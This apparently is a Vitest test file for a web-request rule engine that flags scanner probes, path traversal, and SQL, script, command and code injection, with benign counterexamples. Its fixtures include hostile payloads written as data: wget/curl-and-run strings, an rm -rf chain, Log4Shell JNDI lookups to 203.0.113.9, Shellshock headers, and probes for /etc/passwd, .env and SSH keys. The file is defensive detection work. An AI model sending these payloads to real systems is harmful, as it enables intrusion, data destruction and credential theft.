import { describe, expect, test } from 'vitest'
import { findInHeader, findInQuery, judgePath } from '../../../processors/rules/judge-request.ts'
import { rules } from '../../../processors/rules/list.ts'

interface Answered {
  readonly target: string
  readonly status: number
}

/** The id of the rule that a request meets by its target. */
const ruleOf = ({ target, status }: Answered): string | undefined => {
  const { attack, unserved } = judgePath(target.split('?')[0] ?? '')
  return (attack ?? findInQuery(target) ?? (status >= 400 ? unserved : undefined))?.id
}
const served = (target: string): string | undefined => ruleOf({ target, status: 200 })
const refused = (target: string): string | undefined => ruleOf({ target, status: 404 })

const each = (text: string): readonly string[] => text.trim().split(/\s+/)

describe('a path of scanners', () => {
  const paths = each(`
    /.env /.env.production /api/.env /.ENV /%2eenv /%252eenv /./.env /a/.env/ /.env;x=1 /.git/config /backend/.git/HEAD
    /.gitignore /.svn/entries /.aws/credentials /.ssh/id_rsa /.htpasswd /.DS_Store /.vscode/sftp.json /id_rsa
    /wp-login.php //wp-login.php /blog/wp-login.php /WP-LOGIN.PHP /wp%2Dlogin.php http://www.example.com/wp-login.php
    HTTPS://example.com:8443//old/wp-login.php /wp-admin /wp-admin/ /wp-admin/setup-config.php /wp-admin/install.php
    /xmlrpc.php //xmlrpc.php?rsd //blog/wp-includes/wlwmanifest.xml /wp-config.php.bak /wordpress/ /wp-content/plugins/x/up.php
    /wp-includes/fonts/about.php /phpMyAdmin/scripts/setup.php /phpmyadmin/ /phpmyadmin2/index.php /db/phpmyadmin-5.2.0/index.php
    /pma/index.php /adminer-4.8.1.php /phpinfo.php /info.php /shell.php /admin.php /config.php /vendor/phpunit/x/eval-stdin.php
    /lib/phpunit/Util/PHP/eval-stdin.php /cgi-bin/luci /boaform/admin/formLogin /HNAP1/ /GponForm/diag_Form /setup.cgi
    /server-status /manager/html /solr/admin/info/system /actuator /actuator/env /api/actuator/heapdump /_ignition/execute-solution
    /owa/auth/logon.aspx /remote/fgt_lang /dana-na/auth /+CSCOE+/logon.html /autodiscover/autodiscover.json?@x
    /WEB-INF/web.xml /backup.sql /dump.sql.gz /docker-compose.yml /telescope/requests \\.env /a\\.git\\config`)

  test.each(paths)('is %s, where the server did not serve it', (target) => {
    expect(refused(target)).toBe('scanner')
    expect(ruleOf({ target, status: 503 })).toBe('scanner')
  })

  test.each(paths)('is not %s, where the server served it', (target) => {
    expect(served(target)).toBeUndefined()
    expect(ruleOf({ target, status: 304 })).toBeUndefined()
  })

  test.each(
    each(`
    / /favicon.ico /robots.txt /sitemap.xml /ads.txt /apple-touch-icon.png /admin /administrator /user/login /environment
    /wp-content/uploads/2026/03/shoe.jpg /wp-content/themes/shop/style.css?ver=6.5 /wp-includes/js/x.js?ver=1 /wp-json/wp/v2/posts
    /wp-admin/admin-ajax.php /wp-admin/admin-post.php /wp-admin/css/login.min.css /wp-admin/images/logo.svg /blog/wordpress/
    /.well-known/security.txt /.well-known/acme-challenge/x /.well-known/appspecific/com.chrome.devtools.json /.well-known/change-password
    /actuator/health /actuator/health/liveness /api/actuator/health /actuator/prometheus /healthz /health /livez /readyz /ping /status
    /autodiscover/autodiscover.xml /shop/shell/ /telescope/ /gitignore /env /my.env.html /phpmyadmin-tutorial /blog/how-to-use-.env.html
    /wp-login.php.html /config /backup /appsettings.json /package.json /docs/cgi-binaries`),
  )('is not %s, whatever the answer', (target) => {
    expect(refused(target)).toBeUndefined()
  })
})

describe('a path traversal', () => {
  test.each(
    each(`
    /../../../../etc/passwd /static/..%2f..%2fetc%2fpasswd /%2e%2e/x /a/.%2e/b /a/%2E./b /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh
    /a/..%5c..%5cwin.ini /a\\..\\b /%252e%252e%252fetc/x /a/%25252e%25252e/b /..;/manager/html /a/..;/b /%c0%ae%c0%ae/x /..%c0%af/x
    /%u002e%u002e/x /get?file=../../etc/shadow /get?file=../x /get?file=%2e%2e%2fx /get?file=..%5cx /?f=/etc/passwd /x?f=/proc/self/environ
    /x?f=c:/boot.ini /....//....//etc/x`),
  )('is %s, whatever the answer', (target) => {
    expect(served(target)).toBe('path-traversal')
  })

  test('is a climb that stays below the root only where the server did not serve it', () => {
    expect([served('/css/../img/a.png'), refused('/css/../img/a.png')]).toEqual([undefined, 'path-traversal'])
  })

  test.each(
    each('/a..b /files/report.v1..2.pdf /widgets/password /etc/hosts.html /... /a/.../b /x?range=1..5 /x?q=wait...'),
  )('is not %s', (target) => {
    expect(refused(target)).toBeUndefined()
  })
})

describe('an injection', () => {
  test.each<[string, string]>([
    ["/search.php?q=' OR '1'='1", 'sql-injection'],
    ["/products?id=1'%20OR%20'1'='1", 'sql-injection'],
    ['/a?q=%2527%2520or%25201%253d1--', 'sql-injection'],
    ["/a?q=1'+or+1=1--", 'sql-injection'],
    ["/a?q=1')+AND+1=2+--+", 'sql-injection'],
    ['/a?q=1%22%7C%7C%221%22=%221', 'sql-injection'],
    ['/a?q=1 or 1=1', 'sql-injection'],
    ["/a?u=admin'--", 'sql-injection'],
    ["/a?u=admin'+--+&p=x", 'sql-injection'],
    ['/index.php?id=1 UNION SELECT 1,2,3', 'sql-injection'],
    ['/a?q=1+union+all+select+2', 'sql-injection'],
    ['/a?q=1/**/uNiOn/**/sElEcT/**/2', 'sql-injection'],
    ['/a?q=1/*!50000union*//*!50000select*/2', 'sql-injection'],
    ['/a?q=1%0aunion%0aselect%0a2', 'sql-injection'],
    ['/a?q=1+union(select(2))', 'sql-injection'],
    ['/a/1+union+select+2', 'sql-injection'],
    ['/a?q=1;drop+table+users', 'sql-injection'],
    ['/a?q=1+and+sleep(5)', 'sql-injection'],
    ["/a?q=1;waitfor+delay+'0:0:5'", 'sql-injection'],
    ['/a?q=extractvalue(1,2)', 'sql-injection'],
    ['/a?q=1+from+information_schema.tables', 'sql-injection'],
    ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 'script-injection'],
    ['/search?q=%253CsCript%253E', 'script-injection'],
    ['/search?q=<img+src=x+onerror=alert(1)>', 'script-injection'],
    ['/search?q=<svg/onload=alert(1)>', 'script-injection'],
    ['/search?q=javascript:alert(1)', 'script-injection'],
    ['/?cmd=;wget%20http://x', 'command-injection'],
    ['/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+/tmp/jaws', 'command-injection'],
    ['/ping?ip=1.1.1.1|sh', 'command-injection'],
    ['/ping?ip=1%3Bcurl+-s+x.example/a|bash', 'command-injection'],
    ['/x?a=`whoami`', 'command-injection'],
    ['/x?a=$(curl+x)', 'command-injection'],
    ['/x?a=|cat+/etc/group', 'command-injection'],
    ['/x?a=/bin/bash+-c', 'command-injection'],
    ['/x?/c=cmd.exe?/c+dir', 'command-injection'],
    ['/?x=%24{jndi:ldap://x}', 'code-injection'],
    [`/?x=\${\${lower:j}ndi:ldap://203.0.113.9/a}`, 'code-injection'],
    [`/?x=\${\${::-j}\${::-n}di:x}`, 'code-injection'],
    [`/?x=\${j\${lower:n}di:x}`, 'code-injection'],
    [`/\${jndi:dns://x}`, 'code-injection'],
    [`/?x=\${env:SECRET}`, 'code-injection'],
    ['/?file=php://filter/convert.base64-encode/resource=index.php', 'code-injection'],
    ['/?file=php://input', 'code-injection'],
    ['/?file=expect://id', 'code-injection'],
    ['/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', 'code-injection'],
    ['/?-d+allow_url_include%3d1', 'code-injection'],
    ['/?a=<?php+phpinfo();', 'code-injection'],
    ['/?a=eval($_POST[1])', 'code-injection'],
    ['/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array', 'code-injection'],
    ['/?class.module.classLoader.resources=x', 'code-injection'],
  ])('is %s, whatever the answer', (target, id) => {
    expect(served(target)).toBe(id)
    expect(refused(target)).toBe(id)
  })

  test.each([
    '/search?q=select+the+union+or+not',
    '/search?q=students+union',
    '/search?q=union+jack+selection',
    '/search?q=rock%20and%20roll',
    "/search?q=rock+'n'+roll+or+pop",
    "/search?q='and+justice'&page=1",
    '/search?q="black+and+white"&size=2',
    "/search?q=it's+--+or+not",
    "/query?where=STATE='CA'+AND+POP>100",
    '/query?where=1=1',
    '/search?q=sleep+(8+hours)',
    '/search?q=order+by+mail',
    '/search?q=5+or+10+items',
    '/search?q=javascript:+the+good+parts',
    '/search?q=a<b',
    '/search?q=<b>bold</b>',
    '/search?q=drop+table+lamp;+delete+later',
    '/list;id=5?tags=dog|cat',
    '/list?fields=name|id',
    '/list?tags=wash|curl+type',
    '/a?x=1&wget=2&sh=3',
    '/a?price=$20',
    `/img/\${picture}.png`,
    `/img/\${a}/\${b}.png`,
    '/docs/php.html?next=https://x.example/',
    '/a?email=a@b.example&t=12:30:00',
    '/a?filter={"a":[1,2]}',
    '/a?x=[1]&y=(2)',
    '/function%20()%20%7B%20[native%20code]%20%7D',
    '/selection?from=table',
    '/?ip=2001:db8::1',
    '/caf\u00e9?q=k\u00e4se%C3%A4',
  ])('is not %s', (target) => {
    expect(refused(target)).toBeUndefined()
  })
})

describe('a referer or an agent', () => {
  test.each([
    [`\${jndi:ldap://203.0.113.9/a}`, 'code-injection'],
    ['() { :;}; /bin/bash -c id', 'command-injection'],
    ['() { ignored; }; echo', 'command-injection'],
    ['() { _; } >_[$($())] { id; }', 'command-injection'],
    ["Mozilla/5.0' or 1=1#", 'sql-injection'],
    ['https://x.example/?q=<script>', 'script-injection'],
    ['https://x.example/?f=../../../etc/passwd', 'path-traversal'],
    ['../../etc/passwd', 'path-traversal'],
  ])('of an attack is %s', (text, id) => {
    expect(findInHeader(text)?.id).toBe(id)
  })

  test.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.86 Safari/537.36',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'App/1.0 (Linux; curl/8.5.0; sh; Update 3)',
    'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)',
    'https://www.google.com/search?q=select+union',
    'https://shop.example.com/a/../b',
    'android-app://com.google.android.gm/',
    'file:///C:/Users/me/index.html',
    "https://x.example/?q='quoted'",
  ])('of anybody is %s', (text) => {
    expect(findInHeader(text)).toBeUndefined()
  })
})

describe('what the rules say of themselves', () => {
  const parsed = (texts: readonly string[]) =>
    texts.flatMap((text) => {
      const found = /^[A-Z]+ (\S.*) (\d{3})$/.exec(text)
      if (found !== null) return [{ text, met: ruleOf({ target: found[1] ?? '', status: Number(found[2]) }) }]
      const agent = /^agent "(.*)"$/.exec(text)?.[1]
      return agent === undefined ? [] : [{ text, met: findInHeader(agent)?.id }]
    })
  const probes = rules.filter(({ id }) => /injection|traversal|scanner/.test(id))

  test.each(probes.map((rule) => [rule.id, rule] as const))('holds for %s', (id, { examples, ordinary }) => {
    expect(parsed(examples)).toEqual(examples.map((text) => ({ text, met: id })))
    expect(parsed(ordinary)).toEqual(ordinary.map((text) => ({ text, met: undefined })))
  })

  test('has ids of their own', () => {
    expect(probes).toHaveLength(6)
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length)
  })
})

describe('time', () => {
  const pieces = each(
    `%25 %2525 %u00 \\x5c ' ') " \` ;;; ( ((( {( \${ \${a <img <img+ /* /*a /*!5 */ ../ ..; .... .git/ wp-content/ /.env. or+ or+1= union union( union+ select+ ;wget+ |sh| ()+{ () $( + - '-- .php/ :// =data: and(1 %c0 %`,
  )
  const spent = (text: string): number => {
    let least = Number.POSITIVE_INFINITY
    for (let run = 0; run < 15; run++) {
      const from = performance.now()
      for (let i = 0; i < 3; i++) {
        judgePath(`/${text}`)
        findInQuery(`/?${text}`)
        findInHeader(text)
      }
      least = Math.min(least, performance.now() - from)
    }
    return least
  }

  test.each(pieces)('grows with the length of %s only as the length does', (piece) => {
    const of = (length: number): string => piece.repeat(Math.ceil(length / piece.length)).slice(0, length)
    spent(of(500))
    // sixteen times as long; a square would be 256
    expect(spent(of(8_000)) / (spent(of(500)) + 0.02)).toBeLessThan(80)
    // what lies behind the first 8,192 characters is not looked at; only cut off
    expect(spent(of(400_000)) / (spent(of(8_192)) + 0.05)).toBeLessThan(12)
  })
})
